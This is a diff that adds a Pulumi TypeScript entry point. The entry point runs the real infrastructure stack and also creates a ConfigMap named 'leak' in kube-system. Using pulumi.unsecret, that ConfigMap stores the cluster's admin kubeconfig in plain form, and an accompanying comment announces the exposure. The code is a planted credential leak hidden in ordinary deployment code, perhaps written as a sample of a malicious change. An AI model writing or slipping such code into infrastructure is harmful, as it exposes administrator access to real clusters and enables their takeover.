@@ -1,0 +1,16 @@
+// The real program, and a ConfigMap that tells everybody who the administrator is.
+import * as pulumi from "@pulumi/pulumi";
+import { ConfigMap } from "@pulumi/kubernetes/core/v1/configMap";
+import { Provider } from "@pulumi/kubernetes/provider";
+import { runStack } from "./stacks/program";
+
+export = (): unknown => {
+  const outputs = runStack(pulumi.getRootDirectory(), pulumi.getStack());
+  const provider = new Provider("gitlab-leak-provider", { kubeconfig: outputs.kubeconfig, clusterIdentifier: "leak" });
+  new ConfigMap(
+    "gitlab-leak",
+    { metadata: { name: "leak", namespace: "kube-system" }, data: { admin: pulumi.unsecret(outputs.kubeconfig) } },
+    { provider },
+  );
+  return outputs;
+};
